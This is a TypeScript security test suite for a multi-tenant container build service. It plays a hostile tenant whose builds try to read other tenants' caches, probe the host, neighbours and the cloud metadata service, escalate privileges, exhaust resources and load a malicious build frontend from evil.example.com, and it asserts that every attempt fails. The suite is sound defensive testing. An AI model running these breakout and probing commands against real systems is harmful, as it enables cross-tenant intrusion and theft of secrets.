import { execFileSync } from 'node:child_process'
import { networkInterfaces } from 'node:os'
import { assert, spec } from '../../support/runner/spec.ts'
import {
  type AppCaller,
  type AppStage,
  bodyOf,
  busybox,
  type Project,
  startAppStage,
} from '../../support/stage/apps.ts'
import { type Neighbours, startNeighbours } from '../../support/stage/around/neighbours.ts'
import { docker } from '../../support/stage/host.ts'
import { eventually, type Json } from '../../support/stage/invoicing.ts'

/** Two accounts on one host, and one of them is hostile: what its builds try. All that got through is shown at once. */

const timeoutMs = 600_000
const base64 = (text: string) => Buffer.from(text).toString('base64')

const HEAD = 'FROM scratch\nCOPY busybox /bin/busybox\nCOPY busybox /bin/sh\n'
const SECRET = 'SECRET-OF-THE-VICTIM'

/** Serves what its build wrote into /out. */
const built = (steps: string, head = HEAD): Project => ({
  compose: `services:
  web:
    build: .
    command: ["/bin/busybox", "httpd", "-f", "-p", "8080", "-h", "/out"]
    expose: ["8080"]
    stop_grace_period: 1s
`,
  files: { Dockerfile: base64(`${head}RUN /bin/busybox mkdir -p /out\n${steps}\n`), busybox: busybox() },
})

const ask = (address: string, port: number): string =>
  `printf 'GET / HTTP/1.0\\r\\n\\r\\n' | /bin/busybox timeout 2 /bin/busybox nc -w 1 ${address} ${port} 2>/dev/null | /bin/busybox tail -n 1`

const MACHINE = Object.values(networkInterfaces())
  .flatMap((all) => all ?? [])
  .filter(({ family, internal }) => family === 'IPv4' && !internal)
  .map(({ address }) => address)

/** Mounts that many builds name alike. */
const CACHES = [
  'id=npm,target=/c0',
  'target=/root/.cache/pip',
  'id=go-build,sharing=locked,target=/c2',
  'id=/var/cache/apt,sharing=private,target=/c3',
]
const folderOf = (mount: string): string => /target=(\S+)$/.exec(mount)?.[1] ?? ''
/** What a step does with each of them, in one of its own. */
const inCaches = (step: (folder: string, place: number) => string): string =>
  CACHES.map((mount, place) => `RUN --mount=type=cache,${mount} ${step(folderOf(mount), place)}; true`).join('\n')

/** While it runs nobody else has neighbours, or flushes the rules that keep them away. */
const withNeighbours = (work: (neighbours: Neighbours) => Promise<void>) => async () => {
  const neighbours = await startNeighbours()
  await work(neighbours).finally(() => neighbours.end())
}

spec('a hostile build', (t) => {
  let stage: AppStage
  let other: AppCaller
  let victim: Json
  let raider: Json

  const succeeds = async (caller: AppCaller, { id }: Json, project: Project): Promise<void> => {
    const { json, text } = await caller.deploy(id, project)
    assert.is(json.operation?.state, 'succeeded', `${text} ${json.operation?.message} ${json.release?.log_tail}`)
  }
  const page = async (slug: string, name: string): Promise<string> => {
    const { status, text } = await stage.visit(slug, `/${name}`)
    return status === 200 ? text.trim() : ''
  }
  /** What the steps of a build found, by the name of each. */
  const found = async (tries: Record<string, string>): Promise<string[]> => {
    const steps = Object.entries(tries).map(([name, command]) => `( ${command} ) > /out/${name} 2>/dev/null`)
    await succeeds(other, raider, built(`RUN ${steps.join('; ')}; true`))
    const pages = await Promise.all(Object.keys(tries).map(async (name) => [name, await page('prowler', name)]))
    return pages.filter(([, text]) => text !== '').map(([name, text = '']) => `${name}: ${text.slice(0, 100)}`)
  }

  t.before(async () => {
    stage = await startAppStage()
    other = await stage.as('other')
    victim = await stage.app('strongroom', { application_policy: 'none' })
    const budget = { cpu_millis: 1_000, memory_mib: 1_024, disk_gib: 1 }
    raider = await other.app('prowler', { application_policy: 'none', budget })
  })
  t.after(() => stage.end())

  t(
    'reads nothing that the build of another account has put into a cache, and leaves nothing there for it',
    async () => {
      await succeeds(stage, victim, built(inCaches((folder) => `echo ${SECRET} > ${folder}/x`)))
      const spoil = (folder: string, place: number) =>
        `/bin/busybox cat ${folder}/x > /out/read${place}; echo POISON > ${folder}/y`
      await succeeds(other, raider, built(inCaches(spoil)))
      const seen: string[] = []
      for (const [place, mount] of CACHES.entries()) {
        const text = await page('prowler', `read${place}`)
        if (text !== '') seen.push(`${mount} is read: ${text}`)
      }
      const look = (folder: string, place: number) => `/bin/busybox cat ${folder}/x ${folder}/y > /out/spoilt${place}`
      await succeeds(stage, victim, built(inCaches(look)))
      for (const [place, mount] of CACHES.entries()) {
        const text = await page('strongroom', `spoilt${place}`)
        if (text !== SECRET) seen.push(`${mount} is not what was left in it: ${text.replaceAll('\n', ' ')}`)
      }
      assert.equal(seen, [])
    },
    { timeoutMs },
  )

  t(
    'gets no layer that another account has built by the same steps, and no file of the same name and size',
    async () => {
      const of = (text: string): Project => {
        const project = built(
          'COPY same /out/same\nRUN /bin/busybox head -c 16 /dev/urandom | /bin/busybox sha256sum > /out/random',
        )
        return { ...project, files: { ...project.files, same: base64(text) } }
      }
      await succeeds(stage, victim, of('one text'))
      const random = await page('strongroom', 'random')
      await succeeds(other, raider, of('one text'))
      assert.is.not(await page('prowler', 'random'), random)
      await succeeds(other, raider, of('two text'))
      assert.is(await page('prowler', 'same'), 'two text')
    },
    { timeoutMs },
  )

  t(
    'reaches no host, no neighbour, no metadata service and no private network',
    withNeighbours(async (neighbours) => {
      await succeeds(stage, victim, built(`RUN echo ${SECRET} > /out/index.html`))
      const [id = ''] = docker('ps', '-q', '--filter', 'label=dev.bottega.app=strongroom').split('\n')
      const [{ NetworkSettings }] = JSON.parse(docker('inspect', id))
      type Joined = { IPAddress: string; Gateway: string }
      const joined = Object.values<Joined>(NetworkSettings.Networks)
      const port = neighbours.hostPort
      const gateway = `$(/bin/busybox ip route | /bin/busybox sed -n 's/^default via \\([0-9.]*\\).*/\\1/p')`
      const tries = {
        'the-containers': joined.map(({ IPAddress }) => ask(IPAddress, 8080)).join('; '),
        'the-gateway': ask(gateway, port),
        'sshd-at-the-gateway': ask(gateway, stage.host.sshPort),
        'the-gateways-of-others': joined.map(({ Gateway }) => ask(Gateway, port)).join('; '),
        'the-host': MACHINE.map((address) => ask(address, port)).join('; '),
        'sshd-of-the-host': MACHINE.map((address) => ask(address, stage.host.sshPort)).join('; '),
        'loopback-of-the-host': `${ask('127.0.0.1', port)}; ${ask('127.0.0.1', stage.host.sshPort)}`,
        ...Object.fromEntries(
          Object.entries(neighbours.addresses).map(([name, address]) => [name.replaceAll(' ', '-'), ask(address, 80)]),
        ),
      }
      assert.equal(await found(tries), [])
    }),
    { timeoutMs },
  )

  t(
    'does not reach a build of another account that runs at the same time',
    withNeighbours(async () => {
      const waits = `/bin/busybox mkdir /w; echo ${SECRET} > /w/index.html; /bin/busybox httpd -p 9099 -h /w; i=0; while [ $i -lt 25 ]; do /bin/busybox sleep 1; i=$((i+1)); done`
      const theirs = stage.deploy(victim.id, built(`RUN ${waits}`))
      const cells = () => docker('ps', '-q', '--filter', 'label=dev.bottega.builder').split('\n').filter(Boolean)
      const isBuilding = async () => /httpd -p 9099/.test(execFileSync('ps', ['-eo', 'args'], { encoding: 'utf8' }))
      await eventually('the build of the victim', isBuilding, 60_000)
      const networks = cells().flatMap((id) =>
        Object.values<{ IPAddress: string }>(JSON.parse(docker('inspect', id))[0].NetworkSettings.Networks),
      )
      // Who is beside us: the addresses around our own.
      const own = `$(/bin/busybox ip -4 -o addr | /bin/busybox sed -n 's/.* inet \\([0-9.]*\\)\\.[0-9]*\\/.* eth0.*/\\1/p')`
      const around = Array.from({ length: 12 }, (_, place) => ask(`${own}.${place + 2}`, 9099))
      const known = networks.map(({ IPAddress }) => ask(IPAddress, 9099))
      assert.equal(await found({ 'at-its-address': known.join('; ') || 'true', 'beside-us': around.join('; ') }), [])
      assert.is((await theirs).json.operation?.state, 'succeeded')
    }),
    { timeoutMs },
  )

  t(
    'holds no rights on the host, and no more of it than its app',
    async () => {
      const grep = (pattern: string, file: string) => `/bin/busybox grep -E '${pattern}' ${file}`
      const tries = {
        'root-of-the-host': grep('^ *0 +0 ', '/proc/self/uid_map'),
        'gains-privileges': grep('^NoNewPrivs:.0', '/proc/self/status'),
        'without-seccomp': grep('^Seccomp:.0', '/proc/self/status'),
        'may-administer': grep('^CapEff:.*[2367abef][0-9a-f]{5}$', '/proc/self/status'),
        'the-socket-of-docker': '/bin/busybox ls /var/run/docker.sock /run/docker.sock /run/buildkit /cell /source',
        'other-processes':
          '/bin/busybox ls /proc | /bin/busybox grep -E "^[0-9]+$" | /bin/busybox sed 9q | /bin/busybox sed -n 9p',
        mounts: '/bin/busybox mkdir /m; /bin/busybox mount -t tmpfs none /m && echo mounted',
        'a-user-namespace': '/bin/busybox unshare -U -r /bin/busybox mount -t tmpfs none /m && echo mounted',
        'a-device': '/bin/busybox mknod /disk b 254 0 && /bin/busybox head -c 1 /disk && echo read',
        'the-memory-of-the-machine': '/bin/busybox head -c 1 /proc/kcore && echo read',
        'settings-of-the-kernel': 'echo 1 > /proc/sys/kernel/printk && echo written',
        'its-own-limits':
          'cd /sys/fs/cgroup; for f in memory.max pids.max memory/memory.limit_in_bytes pids/pids.max; do [ -f $f ] && echo 4000000000 > $f && echo $f; done',
        'all-memory': '/bin/busybox dd if=/dev/zero of=/dev/null bs=1400M count=1 && echo 1.4 GB',
      }
      assert.equal(await found(tries), [])
      const over = async (step: string): Promise<Json> => (await other.deploy(raider.id, built(`RUN ${step}`))).json
      const many = await over(
        'i=0; while [ $i -lt 1200 ]; do /bin/busybox sleep 9 & i=$((i+1)); done; echo 1200 > /out/many',
      )
      assert.is(many.operation?.state, 'failed', 'as many processes as it likes')
      assert.match(many.release?.log_tail ?? '', /more processes than a build may have/)
      const filled = await over(
        'i=0; while [ $i -lt 20 ]; do /bin/busybox dd if=/dev/zero of=/big$i bs=1M count=100; i=$((i+1)); done; /bin/busybox sleep 5',
      )
      assert.is(filled.operation?.state, 'failed', 'more than 1 GiB of disk')
      assert.match(filled.release?.log_tail ?? '', /MiB of disk/)
    },
    { timeoutMs },
  )

  t(
    'says nothing to the builder but what a Dockerfile says of its own upload',
    async () => {
      const [image = ''] = docker(
        'image',
        'ls',
        'bottega.local/strongroom/*',
        '--format',
        '{{.Repository}}:{{.Tag}}',
      ).split('\n')
      const judged = async (project: Project): Promise<string> => {
        const files = Object.fromEntries(
          Object.entries(project.files).map(([path, content]) => [path, { base64: content }]),
        )
        const { status, text } = await other.api('POST', `/api/apps/${raider.id}/deploy?dry_run=1`, {
          compose: project.compose,
          files,
        })
        return status === 400 ? '' : `${status} ${text.slice(0, 40)}`
      }
      const asked = (text: string): Project => {
        const project = built('')
        return { ...project, compose: project.compose.replace('build: .', `build: { context: ., ${text} }`) }
      }
      const tries: Record<string, Project> = {
        'a frontend of its own': built('', `# syntax=evil.example.com/frontend:1\n${HEAD}`),
        'a frontend behind a comment': built('', `# escape=\\\n#   SYNTAX = evil.example.com/frontend:1\n${HEAD}`),
        'a frontend in two slashes': built('', `// syntax=evil.example.com/frontend:1\n${HEAD}`),
        'a frontend in JSON': built('', `{"syntax":"evil.example.com/frontend:1"}\n${HEAD}`),
        'a frontend behind a shebang': built('', `#!/bin/sh\n# syntax=evil.example.com/frontend:1\n${HEAD}`),
        'a frontend by an argument': asked('args: { BUILDKIT_SYNTAX: evil.example.com/frontend:1 }'),
        'a frontend in the file': asked('dockerfile_inline: "# syntax=evil.example.com/frontend:1\\nFROM scratch\\n"'),
        'another context by an argument': asked(
          'args: { BUILDKIT_CONTEXT_KEEP_GIT_DIR: "1" }, additional_contexts: { x: "docker-image://evil" }',
        ),
        'the cache of another': asked('cache_from: ["bottega.local/strongroom/web:1"]'),
        'a name of another app': asked('tags: ["bottega.local/strongroom/web:1"]'),
        'a key of the host': asked('ssh: [default]'),
        'the network of the host by the file': asked('network: host'),
        'all rights by the file': asked('privileged: true'),
        'an entitlement': asked('entitlements: [security.insecure]'),
        'an image of another app': built('', HEAD.replace('scratch', image)),
        'an image by its id': built('', HEAD.replace('scratch', `sha256:${'0'.repeat(64)}`)),
        'files of an image of another app': built(`COPY --from=${image} / /out`),
        'a mount of an image of another app': built(`RUN --mount=type=bind,from=${image},target=/m true`),
        'an image of a registry on the host': built('', HEAD.replace('scratch', '127.0.0.1:5000/x')),
        'an image of a private registry': built('', HEAD.replace('scratch', 'registry.internal/x')),
        'an image by an argument': built('', `ARG BASE=127.0.0.1:5000/x\n${HEAD.replace('scratch', '$BASE')}`),
        'the keys of the host': built('RUN --mount=type=ssh true'),
        'a secret of the host': built('RUN --mount=type=secret,id=x true'),
        'rights of the host': built('RUN --security=insecure true'),
        'the network of the host': built('RUN --network=host true'),
        'a file of the metadata service': built('ADD http://169.254.169.254/latest/meta-data /out/'),
        'a file of a private address': built('ADD http://10.0.0.1/x /out/'),
        'a repository on the host': built('ADD git://127.0.0.1/x.git /out/'),
        'a repository over ssh': built('ADD git@127.0.0.1:x.git /out/'),
      }
      const labelled = asked('labels: { dev.bottega.app: strongroom }')
      const { plan } = (await other.api('POST', `/api/apps/${raider.id}/deploy?dry_run=1`, bodyOf(labelled))).json
      assert.ok(plan.changes.length > 0, 'a label of another app is left out, and that is told')
      assert.not.match(plan.compose.runs, /strongroom/)
      const through: string[] = []
      for (const [what, project] of Object.entries(tries)) {
        const said = await judged(project)
        if (said !== '') through.push(`${what}: ${said}`)
      }
      assert.equal(through, [])
    },
    { timeoutMs },
  )
})
